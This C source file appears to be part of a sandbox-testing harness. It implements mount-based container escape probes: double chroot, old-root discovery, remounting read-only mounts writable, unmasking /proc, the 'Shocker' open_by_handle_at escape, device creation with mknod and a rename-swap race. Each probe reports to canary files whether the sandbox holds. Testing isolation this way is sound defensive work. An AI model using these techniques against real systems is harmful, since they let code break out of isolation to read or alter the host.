// Attacks on the view of files: out of the root, through read-only mounts, beneath masks.
#include <limits.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/sysmacros.h>

#include "attack.h"

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#ifndef MOVE_MOUNT_F_EMPTY_PATH
#define MOVE_MOUNT_F_EMPTY_PATH 4
#endif

// "/a/b" below wherever we are: the path without its leading slashes.
static const char* relative(const char* path) {
  return path + strspn(path, "/");
}

// chroot does not move the working directory: a root below the working directory cannot hold it.
static void double_chroot(int argc, char** argv) {
  if (argc < 2) broken("usage: double-chroot FOLDER CANARY");
  char text[256];
  if (mkdir(argv[0], 0755) != 0 && errno != EEXIST) broken("mkdir %s", argv[0]);
  if (chroot(argv[0]) != 0) refused("chroot");
  for (int level = 0; level < 64; ++level)
    if (chdir("..") != 0) break;
  if (path_has_canary(AT_FDCWD, relative(argv[1]), text, sizeof text))
    won("the host's root is ./ : %s", text);
  if (chroot(".") == 0 && path_has_canary(AT_FDCWD, argv[1], text, sizeof text)) won("chroot(.) : %s", text);
  errno = 0;
  refused("chroot twice ends at the sandbox's own root");
}

// The root that the launcher came from, if it is still mounted somewhere: at a folder, or stacked beneath
// ours.
static void old_root(int argc, char** argv) {
  if (argc < 1) broken("usage: old-root CANARY");
  static const char* const kPlaces[] = {"/.old",     "/old", "/oldroot",     "/old_root",         "/put_old",
                                        "/.oldroot", "/..",  "/proc/1/root", "/proc/self/root/.."};
  char text[256], path[PATH_MAX];
  for (size_t i = 0; i < sizeof kPlaces / sizeof kPlaces[0]; ++i) {
    snprintf(path, sizeof path, "%s%s", kPlaces[i], argv[0]);
    if (path_has_canary(AT_FDCWD, path, text, sizeof text)) won("%s is %s", path, text);
  }
  if (path_has_canary(AT_FDCWD, argv[0], text, sizeof text)) won("%s is %s", argv[0], text);
  for (int layer = 0; layer < 4; ++layer) {
    if (umount2("/", MNT_DETACH) != 0) break;
    if (chdir("/..") == 0 && path_has_canary(AT_FDCWD, relative(argv[0]), text, sizeof text))
      won("beneath / : %s", text);
  }
  refused("no way to an older root");
}

static void read_file(int argc, char** argv) {
  if (argc < 1) broken("usage: read PATH...");
  char text[256];
  for (int i = 0; i < argc; ++i)
    if (path_has_canary(AT_FDCWD, argv[i], text, sizeof text)) won("%s is %s", argv[i], text);
  refused("read %s", argv[argc - 1]);
}

static void write_file(int argc, char** argv) {
  if (argc < 1) broken("usage: write PATH...");
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
    if (fd >= 0 && write(fd, "PLANTED\n", 8) == 8) won("%s was written", argv[i]);
  }
  refused("write %s", argv[argc - 1]);
}

static bool plant(const char* folder) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/planted", folder);
  int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) return false;
  close(fd);
  return true;
}

// Every call that can make a read-only mount writable again.
static int make_writable(void* data) {
  const char* folder = data;
  if (mount(NULL, folder, NULL, MS_REMOUNT | MS_BIND, NULL) == 0 && plant(folder)) return kWon;
  struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
  if (syscall(SYS_mount_setattr, AT_FDCWD, folder, 0, &attributes, sizeof attributes) == 0 && plant(folder))
    return kWon;
  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, folder, OPEN_TREE_CLONE | O_CLOEXEC);
  if (tree >= 0) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
    if (syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attributes, sizeof attributes) == 0 &&
        plant(path))
      return kWon;
  }
  if (mount(folder, "/tmp", NULL, MS_BIND, NULL) == 0 &&
      mount(NULL, "/tmp", NULL, MS_REMOUNT | MS_BIND, NULL) == 0 && plant("/tmp"))
    return kWon;
  return kRefused;
}

static int make_writable_elsewhere(void* data) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) return kRefused;
  return make_writable(data);
}

static void remount(int argc, char** argv) {
  if (argc < 1) broken("usage: remount FOLDER");
  if (plant(argv[0])) broken("%s is writable as it is", argv[0]);
  if (in_child(make_writable, argv[0]) == kWon) won("%s was made writable", argv[0]);
  if (in_child(make_writable_elsewhere, argv[0]) == kWon)
    won("%s was made writable in a user namespace", argv[0]);
  errno = 0;
  refused("%s stays read-only", argv[0]);
}

// A masked entry is empty, absent or unreadable; `path` is readable with content only if the mask is gone.
static bool has_content(const char* path) {
  char byte;
  int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  if (fd < 0) return false;
  ssize_t got = read(fd, &byte, 1);
  close(fd);
  return got == 1;
}

static void read_masked(int argc, char** argv) {
  if (argc < 1) broken("usage: read-masked PATH...");
  for (int i = 0; i < argc; ++i)
    if (has_content(argv[i])) won("%s has content", argv[i]);
  refused("all are masked");
}

typedef struct {
  const char* folder;  // where the mask's tree is: /proc
  const char* masked;  // relative to it
} Mask;

static int unmask(void* data) {
  const Mask* mask = data;
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/%s", mask->folder, mask->masked);
  for (int layer = 0; layer < 4; ++layer) {
    if (umount2(path, MNT_DETACH) != 0) break;
    if (has_content(path)) return kWon;
  }
  // A bind or a clone of the folder alone leaves the mounts below it behind, so what they hid shows.
  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, mask->folder, OPEN_TREE_CLONE | O_CLOEXEC);
  snprintf(path, sizeof path, "/proc/self/fd/%d/%s", tree, mask->masked);
  if (tree >= 0 && has_content(path)) return kWon;
  snprintf(path, sizeof path, "/tmp/%s", mask->masked);
  if (mount(mask->folder, "/tmp", NULL, MS_BIND, NULL) == 0 && has_content(path)) return kWon;
  if (mount("proc", "/tmp", "proc", 0, NULL) == 0 && has_content(path)) return kWon;
  return kRefused;
}

static int unmask_elsewhere(void* data) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) != 0) return kRefused;
  return in_child(unmask, data);  // the new pid namespace begins with the child
}

static void remove_masks(int argc, char** argv) {
  if (argc < 2) broken("usage: unmask FOLDER ENTRY...");
  for (int i = 1; i < argc; ++i) {
    Mask mask = {argv[0], argv[i]};
    if (in_child(unmask, &mask) == kWon) won("%s/%s was unmasked", argv[0], argv[i]);
    if (in_child(unmask_elsewhere, &mask) == kWon)
      won("%s/%s was unmasked in a user namespace", argv[0], argv[i]);
  }
  errno = 0;
  refused("the masks hold");
}

// Opens for writing only: nothing is ever written to a file that belongs to the whole machine.
static void open_writable(int argc, char** argv) {
  if (argc < 1) broken("usage: open-writable PATH...");
  for (int i = 0; i < argc; ++i) {
    int fd = open(argv[i], O_WRONLY | O_CLOEXEC);
    if (fd >= 0) won("%s was opened for writing", argv[i]);
  }
  refused("open %s for writing", argv[argc - 1]);
}

// A rootfs whose /proc is a decoy: what the launcher and programs read there would be the attacker's.
static void fake_proc(int argc, char** argv) {
  (void)argc, (void)argv;
  struct statfs status;
  if (statfs("/proc/self/status", &status) != 0) refused("no /proc at all");
  if (status.f_type != 0x9fa0) won("/proc is not procfs (type %lx)", (long)status.f_type);
  errno = 0;
  refused("/proc is procfs");
}

// open_by_handle_at names an inode of the whole filesystem, whatever part of it is mounted ("Shocker").
static void handle(int argc, char** argv) {
  if (argc < 2) broken("usage: open-handle VISIBLE_FILE NEIGHBOUR");
  struct {
    struct file_handle head;
    unsigned char bytes[MAX_HANDLE_SZ];
  } file = {.head.handle_bytes = MAX_HANDLE_SZ};
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, argv[0], &file.head, &mount_id, 0) != 0) refused("name_to_handle_at");
  int mounted = open(argv[0], O_RDONLY | O_CLOEXEC);
  // ext4 and most others: the inode number comes first, and generation 0 means any. Inode 2 is the root
  // folder.
  memset(file.bytes, 0, sizeof file.bytes);
  file.bytes[0] = 2;
  file.head.handle_bytes = 8;
  file.head.handle_type = 1;
  int root = open_by_handle_at(mounted, &file.head, O_RDONLY | O_DIRECTORY);
  if (root < 0) refused("open_by_handle_at");
  char text[256];
  if (path_has_canary(root, relative(argv[1]), text, sizeof text))
    won("the filesystem's root leads to %s", text);
  won("the root of the host's filesystem is open");
}

static void make_device(int argc, char** argv) {
  if (argc < 1) broken("usage: make-device FOLDER");
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/null", argv[0]);
  if (mknod(path, S_IFCHR | 0600, makedev(1, 3)) != 0) refused("mknod");
  int fd = open(path, O_RDWR | O_CLOEXEC);
  unlink(path);
  if (fd < 0) refused("open of the new device");
  won("a device node was made and opened");
}

// Pairs of names that change places, until killed: a rootfs that is one thing when it is looked at, and
// another when it is used.
static void swap_forever(int argc, char** argv) {
  if (argc < 2) broken("usage: swap-forever A B [A B...]");
  for (;;)
    for (int i = 0; i + 1 < argc; i += 2)
      if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) != 0)
        broken("exchange %s", argv[i]);
}

const Attack kMountAttacks[] = {
    {"double-chroot", double_chroot},
    {"old-root", old_root},
    {"read", read_file},
    {"write", write_file},
    {"remount", remount},
    {"read-masked", read_masked},
    {"unmask", remove_masks},
    {"open-writable", open_writable},
    {"fake-proc", fake_proc},
    {"open-handle", handle},
    {"make-device", make_device},
    {"swap-forever", swap_forever},
    {NULL, NULL},
};
